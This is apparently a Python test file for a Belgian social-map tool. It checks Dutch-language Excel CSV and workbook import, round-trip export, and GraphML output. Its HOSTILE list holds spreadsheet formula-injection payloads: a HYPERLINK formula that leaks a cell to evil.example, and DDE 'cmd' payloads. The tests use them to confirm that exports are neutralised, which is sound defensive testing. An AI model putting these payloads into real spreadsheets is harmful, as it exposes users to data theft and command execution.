"""Belgian Excel both ways: a cp1252 ';' CSV with Dutch headers and a one-sheet 'Blad1' workbook
load, go out through the export and come back the same; the export opens in Belgian Excel (';', a
BOM, Dutch headers); no exported cell is a formula; a coordinator's row that the sources state
otherwise is kept beside theirs and shown (on both backends)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient

from api.app import create_app
from armoedegraaf.cli import cli
from armoedegraaf.settings import PROJECT_ROOT, Settings
from graph.export import to_graphml
from loaders.pipeline import build_graph
from loaders.sociale_kaart.tables import read_extra, row_errors
from loaders.sociale_kaart.export import export_csv, export_tables, export_xlsx

SOURCES = PROJECT_ROOT / "data" / "sources"
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Klik")', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "+32 3 880 00 00", "\tTab vzw"]


def _belgian_csv(path: Path) -> Path:
    """What Excel (Belgian locale) writes for 'CSV (gescheiden door lijstscheidingsteken)': cp1252,
    ';', CRLF, no BOM; Dutch headers as a coordinator types them."""
    path.mkdir(parents=True, exist_ok=True)
    buffer = io.StringIO(newline="")
    csv.writer(buffer, delimiter=";", lineterminator="\r\n").writerows(
        [["Naam", "Soort", "Gemeente", "Andere namen"], ["Speelotheek De Kreukel", "organisatie", "Boom", "Kreukel"],
         ["Café Sociaal Boom", "Organisation", "Boom", ""], *[[name, "", "", ""] for name in HOSTILE]])
    (path / "organisaties.csv").write_bytes(buffer.getvalue().encode("cp1252"))
    return path


def _blad1(path: Path) -> Path:
    """A new workbook's only sheet, 'Blad1', with Dutch partnership headers."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet.title in ("Sheet", "Blad1")
    sheet.title = "Blad1"
    sheet.append(["Van", "Naar", "Soort", "Notitie"])
    sheet.append(["Speelotheek De Kreukel", "Huis van het Kind Boom", "werkt samen met", "speelgoed uitlenen"])
    workbook.save(path)
    return path


def test_belgian_csv_and_blad1_workbook_load(tmp_path):
    doc = read_extra(_belgian_csv(tmp_path / "kaart"))
    assert doc.errors == []
    rows = [(r.values["name"], r.values.get("type"), r.values.get("municipality"), r.values.get("aliases"))
            for r in doc.records["organisations"]]
    assert rows[:2] == [("Speelotheek De Kreukel", "Organisation", "Boom", ["Kreukel"]),
                        ("Café Sociaal Boom", "Organisation", "Boom", None)]
    assert [r[0] for r in rows[2:]] == [h.strip() for h in HOSTILE]
    sheet = read_extra(_blad1(tmp_path / "samenwerking.xlsx"))
    assert sheet.errors == [] and list(sheet.records) == ["partnerships"]
    assert sheet.records["partnerships"][0].values == {
        "from": "Speelotheek De Kreukel", "to": "Huis van het Kind Boom", "type": "PARTNER_OF", "note": "speelgoed uitlenen"}


def test_round_trip_through_the_excel_export(tmp_path):
    first = build_graph(SOURCES, [_belgian_csv(tmp_path / "kaart"), _blad1(tmp_path / "samenwerking.xlsx")])
    assert row_errors(first.report) == []
    doc = _export(first)
    kreukel = next(n for n in doc["nodes"] if n["properties"].get("name") == "Speelotheek De Kreukel")
    note = [r for r in doc["relationships"] if r["start"] == kreukel["id"] and r["type"] == "PARTNER_OF"]
    assert [r["properties"]["note"] for r in note] == ["speelgoed uitlenen"]

    export_csv(doc, tmp_path / "uit", excel=True)
    raw = (tmp_path / "uit" / "organisaties.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8, accents intact
    # Belgian Excel splits on ';' and shows the first row as headers.
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert table[0][:4] == ["id", "naam", "soort", "gemeente"]
    assert any(row[1] == "Café Sociaal Boom" for row in table[1:])
    cells = [c for row in table for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], "a cell Excel would run as a formula"
    assert "'" + HOSTILE[0] in cells and "'=cmd|' /C calc'!A0" in cells
    partners = list(csv.reader(io.StringIO((tmp_path / "uit" / "partnerschappen.csv").read_text("utf-8-sig")),
                               delimiter=";"))
    assert partners[0][:5] == ["van", "van (naam)", "naar", "naar (naam)", "soort"]
    assert any(row[1] == "Speelotheek De Kreukel" and row[3] == "Huis van het Kind Boom" for row in partners)

    again = build_graph(SOURCES, [tmp_path / "uit"])
    assert row_errors(again.report) == []
    assert _export(again) == doc  # the Excel CSVs give the same graph back


def test_xlsx_export_names_booleans_filters_and_no_formula(tmp_path):
    first = build_graph(SOURCES, [_belgian_csv(tmp_path / "kaart")])
    export_xlsx(_export(first), tmp_path / "k.xlsx", excel=True)
    workbook = openpyxl.load_workbook(tmp_path / "k.xlsx")
    assert workbook.sheetnames == ["organisaties", "partnerschappen", "platformen", "acties"]
    for sheet in workbook.worksheets:
        assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref.startswith("A1:")
        for row in sheet.iter_rows(min_row=2):
            for c in row:
                assert c.data_type != "f", f"{sheet.title}!{c.coordinate} is a formula"
    orgs = workbook["organisaties"]
    hostile = [c for c in orgs["B"] if c.value in HOSTILE[:4]]
    assert len(hostile) == 4 and all(c.data_type == "s" and c.quotePrefix for c in hostile)
    partners = workbook["partnerschappen"]
    assert [c.value for c in partners[1][:4]] == ["van", "van (naam)", "naar", "naar (naam)"]
    row = next(r for r in partners.iter_rows(min_row=2, values_only=True) if r[0] == "administration:acce")
    assert row[1] == "ACCE" and row[3]
    platforms = workbook["platformen"]
    header = [c.value for c in platforms[1]]
    staff = header.index("personeel aangeworven")
    values = {r[staff] for r in platforms.iter_rows(min_row=2, values_only=True)}
    assert values <= {True, False, None} and True in values  # Excel booleans, not "true"/"false" text
    workbook.close()
    again = read_extra(tmp_path / "k.xlsx")
    assert again.errors == []
    names = {r.values["name"] for r in again.records["organisations"]}
    assert set(HOSTILE[:4]) <= names  # read back as written, not as "'=..."


def test_plain_csv_export_neutralises_formulas_too(tmp_path):
    first = build_graph(SOURCES, [_belgian_csv(tmp_path / "kaart")])
    export_csv(_export(first), tmp_path / "uit")
    text = (tmp_path / "uit" / "organisations.csv").read_text(encoding="utf-8")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + HOSTILE[0] in cells and not [c for c in cells if c[:1] in ("=", "+", "@")]
    assert read_extra(tmp_path / "uit").errors == []


def test_graphml_has_label_and_type_for_gephi(tmp_path):
    first = build_graph(SOURCES, [_belgian_csv(tmp_path / "kaart")])
    text = to_graphml(_export(first))
    import networkx as nx

    graph = nx.read_graphml(io.StringIO(text))
    node = graph.nodes["hvhk:huis-van-het-kind-boom"]
    assert node["label"] == "Huis van het Kind Boom" and node["type"] == "HuisVanHetKind"
    edge = next(iter(graph.edges(data=True)))[2]
    assert edge["label"] == edge["type"]
    assert 'attr.name="label"' in text and 'attr.name="type"' in text


def _export(result) -> dict:
    from graph.memory_store import MemoryStore

    store = MemoryStore.open(None)
    store.replace(result.batch)
    return json.loads(json.dumps(store.export(), sort_keys=True))


# -- the coordinator's row beside the sources' -----------------------------------------------------

BOOM_OCMW, BOOM_HVHK = "org:ocmw-boom", "hvhk:huis-van-het-kind-boom"


@pytest.fixture
def own_row(tmp_path) -> Path:
    folder = tmp_path / "eigen"
    folder.mkdir()
    (folder / "partnerships.csv").write_text(
        "from,to,type,note\nOCMW Boom,Huis van het Kind Boom,PARTNER_OF,samen huiswerkbegeleiding\n", encoding="utf-8")
    return folder


def test_a_coordinators_row_and_the_sources_both_kept_and_shown(store, own_row, tmp_path):
    sources_only = build_graph(SOURCES)
    theirs = [r for r in sources_only.batch.relationships.values()
              if (r.start, r.type, r.end) == (BOOM_OCMW, "PARTNER_OF", BOOM_HVHK)]
    assert len(theirs) == 1 and theirs[0].properties["source"].startswith("001_")  # the handbook says it too
    result = build_graph(SOURCES, [own_row])
    store.replace(result.batch)
    both = [r for r in store.export()["relationships"] if (r["start"], r["type"], r["end"]) ==
            (BOOM_OCMW, "PARTNER_OF", BOOM_HVHK)]
    assert sorted((r["properties"]["source"], r["properties"].get("note")) for r in both) == [
        (theirs[0].properties["source"], theirs[0].properties["note"]),
        ("partnerships.csv", "samen huiswerkbegeleiding")]
    store.write(build_graph(SOURCES, [own_row]).batch)  # loading again adds nothing
    assert len([r for r in store.export()["relationships"] if (r["start"], r["end"]) == (BOOM_OCMW, BOOM_HVHK)]) == 2
    # Shown: the kaart around OCMW Boom draws both, each with its own source and the note.
    with TestClient(create_app(Settings(backend=store.backend, data_dir=tmp_path), store=store)) as client:
        data = client.get("/kaart/data", params={"focus": BOOM_OCMW, "depth": 1}).json()
        drawn = [e for e in data["edges"] if (e["start"], e["end"]) == (BOOM_OCMW, BOOM_HVHK)]
        assert len(drawn) == 2
        page = client.get("/kaart", params={"focus": BOOM_OCMW, "depth": 1}).text
    assert "samen huiswerkbegeleiding" in page and "eigen sociale kaart (partnerships.csv), rij 2" in page
    assert "Handboek" in page


def test_cli_excel_export_and_own_errors_first(tmp_path, own_row):
    runner = CliRunner()
    data = ["--data-dir", str(tmp_path / "g")]
    bad = tmp_path / "fout"
    bad.mkdir()
    (bad / "organisations.csv").write_text("naam;gemeente\nBuurtwerk Boom;Boomsel\n", encoding="utf-8")
    loaded = runner.invoke(cli, [*data, "load", "--extra", str(own_row), "--extra", str(bad)])
    assert loaded.exit_code == 0, loaded.output
    lines = loaded.output.splitlines()
    assert lines[0].startswith("organisations.csv:2: cell_skipped: row 2, column 'municipality'")
    assert lines[1].startswith("organisations.csv:2: unresolved_name: 'Buurtwerk Boom'")
    assert lines[-1].startswith("geladen: ") and "2 meldingen over je eigen bestanden" in lines[-1]
    assert "opmerkingen over de brondocumenten" in lines[-1] and "armoedegraaf load --report" in lines[-1]
    assert len(lines) == 3
    out = runner.invoke(cli, [*data, "export", "--format", "csv", "--excel", "-o", str(tmp_path / "uit")])
    assert out.exit_code == 0, out.output
    assert (tmp_path / "uit" / "partnerschappen.csv").read_bytes().startswith(b"\xef\xbb\xbfvan;van (naam);naar;")
    report = runner.invoke(cli, [*data, "load", "--report"])
    assert "unresolved_name" in report.output and report.output.splitlines()[-1].startswith("geladen: ")


def test_the_example_exports_the_same_with_or_without_excel(tmp_path):
    example = build_graph(SOURCES, [PROJECT_ROOT / "data" / "examples" / "sociale-kaart"])
    result = export_tables(_export(example))
    assert result.tables["partnerships"] and all(row["from_name"] for row in result.tables["partnerships"])


def test_the_belgian_excel_example_loads(tmp_path):
    """data/examples/sociale-kaart-excel: what a Boom coordinator's Excel saves (cp1252, ';', Dutch)."""
    folder = PROJECT_ROOT / "data" / "examples" / "sociale-kaart-excel"
    assert (folder / "organisaties.csv").read_bytes().decode("cp1252").startswith("Naam;Soort;Gemeente")
    result = build_graph(SOURCES, [folder])
    assert row_errors(result.report) == [] and not [w for w in result.report.warnings if w.kind == "cell_skipped"]
    notes = {r.properties.get("note") for r in result.batch.relationships.values() if r.properties.get("source") == "partnerschappen.csv"}
    assert notes == {"samen huiswerkbegeleiding", "soep op woensdag", None}
    assert result.batch.nodes["org:cafe-solidair-boom"].properties["name"] == "Café Solidair Boom"
